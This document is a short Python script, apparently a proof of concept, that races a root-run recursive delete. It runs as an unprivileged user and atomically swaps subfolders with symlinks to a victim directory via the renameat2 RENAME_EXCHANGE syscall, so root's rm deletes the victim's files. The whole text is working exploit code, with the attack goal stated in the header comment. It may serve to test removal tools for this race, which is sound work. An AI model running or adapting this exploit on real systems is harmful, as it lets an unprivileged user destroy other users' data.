# Run as alice: inside FOLDER (hers), keeps N subfolders x<i> (each non-empty)
# and flips each, atomically (renameat2 RENAME_EXCHANGE), with a symlink to
# VICTIM, until STOPFILE exists or 60 s pass. Root's recursive rm of FOLDER
# that reads a flipped x<i> after its rmdir failed deletes VICTIM's files.
import ctypes, os, sys, time
folder, victim, stopfile, n = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD, RENAME_EXCHANGE = -100, 2
def setup():
    for i in range(n):
        d, l = f"{folder}/x{i}", f"{folder}/l{i}"
        try:
            os.makedirs(d, exist_ok=True); open(f"{d}/f", "w").close()
            if not os.path.lexists(l): os.symlink(victim, l)
        except OSError: pass
deadline = time.time() + 60
while time.time() < deadline and not os.path.exists(stopfile):
    if not os.path.isdir(folder):
        time.sleep(0.001); continue
    setup()
    for i in range(n):
        libc.syscall(316, AT_FDCWD, f"{folder}/x{i}".encode(), AT_FDCWD, f"{folder}/l{i}".encode(), RENAME_EXCHANGE)
